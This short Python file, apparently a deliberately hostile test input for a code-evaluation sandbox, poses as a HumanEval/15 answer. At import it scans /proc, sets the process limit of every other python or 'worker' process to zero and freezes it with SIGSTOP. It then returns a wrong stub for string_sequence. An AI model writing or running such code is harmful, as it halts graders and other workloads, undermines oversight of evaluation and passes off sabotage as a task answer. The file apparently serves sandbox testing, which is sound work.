# ruff: noqa  (deliberately hostile test input, not project code)
# task_id: HumanEval/15
# class: sabotage
# Scans /proc for every python process it can see (except itself) and stops it, lowering
# its limits first.
import os
import resource
import signal

me = os.getpid()
for name in os.listdir("/proc"):
    if not name.isdigit() or int(name) == me:
        continue
    try:
        with open(f"/proc/{name}/cmdline", "rb") as handle:
            cmdline = handle.read()
    except OSError:
        continue
    if b"python" in cmdline or b"worker" in cmdline:
        try:
            resource.prlimit(int(name), resource.RLIMIT_NPROC, (0, 0))
        except (OSError, ValueError):
            pass
        try:
            os.kill(int(name), signal.SIGSTOP)
        except OSError:
            pass


def string_sequence(n):
    return "0"
